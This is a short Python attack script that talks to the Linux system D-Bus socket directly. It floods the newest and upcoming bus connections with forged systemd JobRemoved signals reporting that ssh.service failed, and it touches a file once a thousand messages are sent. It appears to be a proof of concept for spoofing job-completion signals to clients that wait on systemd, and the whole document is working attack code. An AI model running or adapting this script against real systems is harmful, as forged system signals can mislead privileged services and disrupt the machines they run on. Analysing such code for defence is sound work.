# Sends JobRemoved signals to the youngest connections of the system bus and to the next ones, as fast as it can.
# Usage: flood-signals.py FILE          makes FILE once the first thousand are sent
import re, socket, struct, subprocess, sys

def string(text):
    return struct.pack("<I", len(text)) + text.encode() + b"\0"

def padded(data, to):
    return data + b"\0" * (-len(data) % to)

def message(kind, serial, fields, signature="", body=b""):
    array = b""
    for code, sort, value in fields + ([(8, "g", signature)] if signature else []):
        array = padded(array, 8) + struct.pack("<B", code) + bytes([1]) + sort.encode() + b"\0"
        array += bytes([len(value)]) + value.encode() + b"\0" if sort == "g" else padded(array, 4)[len(array):] + string(value)
    header = struct.pack("<cBBBIII", b"l", kind, 1, 1, len(body), serial, len(array)) + array
    return padded(header, 8) + body

bus = socket.socket(socket.AF_UNIX)
bus.connect("/run/dbus/system_bus_socket")
bus.sendall(b"\0AUTH EXTERNAL\r\nDATA\r\nBEGIN\r\n")
daemon = "org.freedesktop.DBus"
bus.sendall(message(1, 1, [(1, "o", "/org/freedesktop/DBus"), (2, "s", daemon), (3, "s", "Hello"), (6, "s", daemon)]))
body = struct.pack("<I", 1) + string("/org/freedesktop/systemd1/job/1")
body = padded(body, 4) + string("ssh.service")
body = padded(body, 4) + string("failed")
serial, manager = 1, "org.freedesktop.systemd1"
while True:
    listed = subprocess.run(["busctl", "list", "--unique", "--no-legend"], capture_output=True, text=True).stdout
    youngest = max(int(number) for number in re.findall(r"^:1\.(\d+)", listed, re.M))
    for _ in range(20):
        for number in range(youngest - 3, youngest + 30):
            serial += 1
            name = f":1.{number}"
            fields = [(1, "o", "/org/freedesktop/systemd1"), (2, "s", manager + ".Manager"), (3, "s", "JobRemoved"), (6, "s", name)]
            bus.sendall(message(4, serial, fields, "uoss", body))
    bus.setblocking(False)
    try:
        while bus.recv(1 << 20):
            pass
    except BlockingIOError:
        pass
    bus.setblocking(True)
    if serial > 1000:
        open(sys.argv[1], "a").close()
